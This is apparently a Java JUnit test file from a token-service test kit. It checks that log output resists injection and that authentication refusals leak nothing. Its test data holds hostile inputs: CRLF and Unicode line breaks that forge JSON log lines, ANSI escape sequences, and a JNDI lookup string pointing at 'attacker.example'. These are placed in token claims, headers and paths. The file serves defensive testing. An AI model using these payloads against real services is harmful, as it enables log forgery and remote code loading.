// SPDX-License-Identifier: Apache-2.0
package dev.flyball.testkit.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import dev.flyball.issuer.TokenBuilder;
import dev.flyball.testkit.contract.RawHttp.Reply;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Assumptions;

/** Rows 81 and 82: what is written down, and what is told. */
final class LogRows {

  private static final String FORGED_LINE = "{\"log.level\":\"INFO\",\"message\":\"forged\"}";

  private LogRows() {}

  static List<Row> all() {
    return List.of(injection(), problems());
  }

  private static Row injection() {
    Map<String, String> texts = new LinkedHashMap<>();
    texts.put("CR LF", "a\r\n" + FORGED_LINE);
    texts.put("line separators", "a\u0085b\u2028" + FORGED_LINE + "\u2029c\u000bd\u000ce");
    texts.put("escape sequences", "a\u001b[2J\u001b[31mb\u009b31mc\u0007");
    texts.put("JSON breakers", "a\",\"user.name\":\"root\"}\\\u0000");
    texts.put("a look-up", "${jndi:ldap://attacker.example/a}%X{a}{}");
    texts.put("directions", "a\u202Eb\u2066c");
    Row row = Row.of(81, "texts that write lines of the log");
    texts.forEach((name, text) -> {
      row.each(name + " in sub", claimed("sub", text));
      row.each(name + " in jti and client_id", claimed("jti", text, "client_id"));
      row.each(
          name + " in kid",
          (service, target) ->
              logged(
                  service,
                  target,
                  target.path(),
                  Attacked.bearer(service.token(target).header("kid", text).sign())));
    });
    row.each(
        "line feeds in the path",
        (service, target) ->
            logged(service, target, target.path() + "%0d%0a%7B%22forged%22:1%7D%1b[31m"));
    row.each(
        "JSON in the query",
        (service, target) ->
            logged(service, target, target.path() + "?a=%22,%22b%22:%22%0a&c=%00"));
    row.each(
        "escape sequences in User-Agent",
        (service, target) ->
            logged(service, target, target.path(), "User-Agent: a\u001b[31m\"},{\"b\":\"\u009b"));
    return row;
  }

  private static Row.Body claimed(String claim, String text, String... more) {
    return (service, target) -> {
      TokenBuilder token = service.token(target).claim(claim, text);
      for (String other : more) {
        token.claim(other, text);
      }
      logged(service, target, target.path(), Attacked.bearer(token.sign()));
    };
  }

  /** Whatever the answer is: what is logged of it stays inside its lines. */
  private static void logged(Attacked service, HostileTarget target, String path, String... lines)
      throws Exception {
    if (service.host().log().isEmpty()) {
      Assumptions.abort("the log cannot be seen");
    }
    service.newLines();
    Reply reply = service.send(target, path, lines);
    assertThat(reply.status()).as("%s", reply).isLessThan(500);
    service.settleRecords(target);
    List<String> logged = service.newLines();
    assertThat(logged).as("lines").isNotEmpty();
    for (String line : logged) {
      assertThat(line)
          .as("a line")
          .doesNotContainPattern("[\\x00-\\x1f\\x7f\\x80-\\x9f\u2028\u2029]");
      if (line.startsWith("{")) {
        assertThat(Answers.object(line)).as("a line").doesNotContainValue("forged");
      }
    }
  }

  private static Row problems() {
    return Row.of(82, "what refusals tell")
        .each(
            "no credential",
            (service, target) ->
                service.refuses(target, Expected.noCredential("credentials_missing")))
        .token("bad token", t -> t.forge().tamperedSignature(), "signature_invalid")
        .each(
            "bad token, asked for as HTML",
            (service, target) ->
                service.refuses(
                    target,
                    Expected.invalidToken("malformed"),
                    "Authorization: Bearer no.such",
                    "Accept: text/html"))
        .each(
            "two credentials",
            (service, target) ->
                service.refuses(
                    target,
                    Expected.invalidRequest(),
                    "Authorization: Bearer a",
                    "Authorization: Bearer b"))
        .each(
            "headers of the answer are those of a refusal",
            (service, target) -> {
              Reply reply =
                  service.exchange(target.method(), target.path(), "Authorization: Bearer a.b.c");
              assertThat(reply.header("Set-Cookie")).as("a session for nobody").isNull();
              assertThat(reply.header("Location")).as("a login page").isNull();
              assertThat(String.valueOf(reply.header("Cache-Control")))
                  .as("Cache-Control")
                  .doesNotContain("public", "max-age");
              service.settle(target);
            })
        .fitting("endpoint with scopes or roles", HostileTarget::isRestricted)
        .each(
            "not enough",
            (service, target) -> {
              String error = target.scopes().isEmpty() ? null : "insufficient_scope";
              service.refuses(
                  target, Expected.forbidden(error), Attacked.bearer(service.stranger(target)));
            })
        .fitting("endpoint for GET", target -> target.method().equals("GET"))
        .each(
            "HEAD",
            (service, target) -> {
              Reply reply = service.exchange("HEAD", target.path(), "Authorization: Bearer a.b.c");
              assertThat(reply.body()).as("body of HEAD").isEmpty();
              assertThat(reply.status()).isIn(401, 405);
              service.settle(target);
            });
  }
}
